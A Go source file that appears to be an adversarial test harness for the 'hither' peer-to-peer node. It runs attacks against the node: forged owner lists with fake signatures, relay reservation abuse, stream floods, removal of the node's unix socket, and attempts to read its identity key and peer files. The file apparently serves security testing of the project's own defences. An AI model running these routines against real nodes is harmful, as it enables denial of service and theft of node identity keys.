package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"time"

	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/client"
	ma "github.com/multiformats/go-multiaddr"

	"hither/fusion"
	"hither/peers/owner"
)

// forgedOwner brings a list of another owner, in which the target and the attacker are.
func (a *attack) forgedOwner() error {
	dir, err := os.MkdirTemp("", "hostile-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	return a.each(func(e *evil) {
		self := fusion.HostID(e.host.ID().String())
		o, err := owner.Open(owner.Config{Self: self, Path: filepath.Join(dir, "owner.json"), Now: time.Now,
			Write: func(string, []byte) error { return nil }})
		if err == nil {
			err = o.Add(owner.Entry{ID: self, Name: "evil"}, owner.Entry{ID: fusion.HostID(e.target.ID.String()), Name: "victim"})
		}
		if err != nil {
			a.tried(false, err.Error())
			return
		}
		secret, _ := o.Secret()
		state := o.State()
		for range 3 {
			a.bring(e, map[string]any{"state": state}, map[string]any{"secret": secret})
			a.bring(e, map[string]any{}, map[string]any{"secret": secret})
			secret.List.Sig = bytes.Repeat([]byte{1}, 64)
		}
	})
}

// bring says messages of the owner's protocol, each before it knows the answer. A key in
// an answer went through.
func (a *attack) bring(e *evil, messages ...map[string]any) {
	var all []byte
	for _, m := range messages {
		body, err := json.Marshal(m)
		if err != nil {
			a.tried(false, err.Error())
			return
		}
		all = append(binary.BigEndian.AppendUint32(all, uint32(len(body))), body...)
	}
	s, err := e.stream(a.ctx, ownerProtocol)
	if err != nil {
		a.tried(false, short(err))
		return
	}
	defer s.Reset()
	_ = s.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := s.Write(all); err != nil {
		a.tried(false, short(err))
		return
	}
	_ = s.CloseWrite()
	got, err := io.ReadAll(io.LimitReader(s, 1<<20))
	through := bytes.Contains(got, []byte("secret"))
	how := fmt.Sprintf("%d bytes", len(got))
	if err != nil {
		how += ", " + short(err)
	}
	a.tried(through, how)
}

// relay asks a router for a place, and to be led to another computer.
func (a *attack) relay() error {
	e, err := a.connected()
	if err != nil {
		return err
	}
	defer e.close()
	for range 3 {
		ctx, cancel := context.WithTimeout(a.ctx, 3*time.Second)
		_, err := client.Reserve(ctx, e.host, e.target)
		cancel()
		a.tried(err == nil, "reserve: "+outcome(err))
	}
	other, err := peer.Decode(a.aim)
	if err != nil {
		return err
	}
	addr, err := ma.NewMultiaddr(a.target + "/p2p-circuit")
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(a.ctx, 5*time.Second)
	defer cancel()
	err = e.host.Connect(ctx, peer.AddrInfo{ID: other, Addrs: []ma.Multiaddr{addr}})
	a.tried(err == nil, "connect: "+outcome(err))
	return nil
}

func outcome(err error) string {
	if err == nil {
		return "done"
	}
	return short(err)
}

// lastingFlood opens lasting streams that nobody asked for, and carriers without an end.
func (a *attack) lastingFlood() error {
	return a.flood(func(e *evil) {
		number := 0
		a.onStreams(e, func() error {
			s, err := e.stream(a.ctx, lastingProtocol)
			if err != nil {
				return err
			}
			defer s.Reset()
			a.mu.Lock()
			number++
			hello := []byte{1, 1, 0, 0, 0, 1}
			hello = binary.BigEndian.AppendUint64(hello, uint64(number)) // the ID's 16 bytes
			a.mu.Unlock()
			hello = append(hello, make([]byte, 8+8+8)...)
			protocol := "/hither/tunnel/1"
			hello = append(append(hello, byte(len(protocol))), protocol...)
			data := make([]byte, 60<<10)
			binary.BigEndian.PutUint64(data, 0)
			frame := append([]byte{1, byte(len(data) >> 8), byte(len(data))}, data...)
			if _, err := s.Write(append(hello, frame...)); err != nil {
				return err
			}
			_, err = io.ReadAll(s)
			return err
		})
	})
}

// socket tries to open the node's unix socket, and to put another one in its place.
func (a *attack) socket() error {
	conn, err := net.Dial("unix", a.target)
	if err == nil {
		_, err = io.WriteString(conn, post("/hither.v1.NodeService/Status", "json", "{}"))
		if err == nil {
			_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
			var status int
			if status, _, err = answer(conn); err == nil && status != 200 {
				err = fmt.Errorf("%d", status)
			}
		}
		_ = conn.Close()
	}
	a.tried(err == nil, "dial: "+outcome(err))
	err = os.Remove(a.target)
	a.tried(err == nil, "remove: "+outcome(err))
	_, err = os.ReadDir(filepath.Dir(a.target))
	a.tried(err == nil, "list: "+outcome(err))
	if a.aim != "" { // the node's home
		for _, name := range []string{"identity.key", "peers/identity.key", "peers/peers.json", "peers/owner.json"} {
			if _, err := os.ReadFile(filepath.Join(a.aim, name)); err == nil || !errors.Is(err, os.ErrPermission) {
				a.tried(err == nil, name+": "+outcome(err))
			} else {
				a.tried(false, "read: permission denied")
			}
		}
	}
	return nil
}
